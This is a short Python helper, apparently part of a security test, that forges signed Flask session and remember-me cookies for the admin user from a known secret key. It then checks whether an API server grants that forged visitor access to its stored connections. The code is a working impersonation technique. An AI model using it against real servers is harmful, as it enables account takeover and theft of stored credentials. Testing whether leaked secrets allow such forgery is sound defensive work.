"""Cookies of a login, forged with a key, as somebody who holds one of the stack's secrets could."""

from __future__ import annotations

import secrets

import requests
from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from flask_login.utils import encode_cookie

FIRST_USER = "1"  # admin


def cookies(key: str) -> dict[str, str]:
    """Return a remember-me cookie and a session of the first user, signed with ``key``."""
    application = Flask("forgery")
    application.secret_key = key
    serializer = SecureCookieSessionInterface().get_signing_serializer(application)
    assert serializer
    session = serializer.dumps({"_user_id": FIRST_USER, "_fresh": True, "_permanent": True})
    return {"remember_token": str(encode_cookie(FIRST_USER, key)), "session": str(session)}


def is_admin(url: str, key: str) -> bool:
    """Return whether the API server at ``url`` lets a visitor with cookies signed with ``key`` read connections."""
    with requests.Session() as visitor:
        visitor.cookies.update(cookies(key))
        visitor.get(f"{url}/auth/login/", timeout=60)
        response = visitor.get(
            f"{url}/api/v2/connections",
            headers={"Authorization": f"Bearer {visitor.cookies.get('_token') or secrets.token_hex()}"},
            timeout=60,
        )
    assert response.status_code in {requests.codes.ok, requests.codes.unauthorized, requests.codes.forbidden}
    return response.ok
